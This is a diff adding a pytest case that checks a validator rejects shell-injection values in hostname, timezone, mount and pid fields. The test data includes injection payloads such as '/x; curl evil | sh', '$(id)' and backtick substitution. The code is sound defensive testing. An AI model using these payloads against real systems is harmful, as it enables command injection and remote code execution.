@@ -57,6 +57,18 @@ def test_a_manifest_names_services_only(key: str) -> None:
     assert not misshapen("manifest", {"services": {"9999/flow@a1": {}}})
 
 
+@pytest.mark.parametrize("evil", ["/x; curl evil | sh", "/x$(id)", "/x`id`", "/x' #", "/x\\n/y", "x"])
+def test_what_becomes_a_word_of_a_command_is_one_word(evil: str) -> None:
+    now = {"epoch": 1, "boot_epoch": None, "synchronized": True}
+    assert misshapen("own_name", {"hostname": evil + " ", "addresses": []})
+    assert misshapen("clock", {**now, "timezone": evil + ";"})
+    disk = {"/": {"mount": evil, "device": "x", "fstype": "x", "options": "rw"}}
+    figures = dict.fromkeys(("total", "available", "inodes_total"), 1)
+    assert misshapen("disk", {"/": {**disk["/"], **figures}})
+    assert not misshapen("disk", {"/": {**disk["/"], **figures, "mount": "/data disk/1"}})
+    assert misshapen("services", {"9999/flow@a1": {"state": "running", "stopped_pids": [evil]}})
+
+
 class Saying:
     """A node whose collector says this."""
 
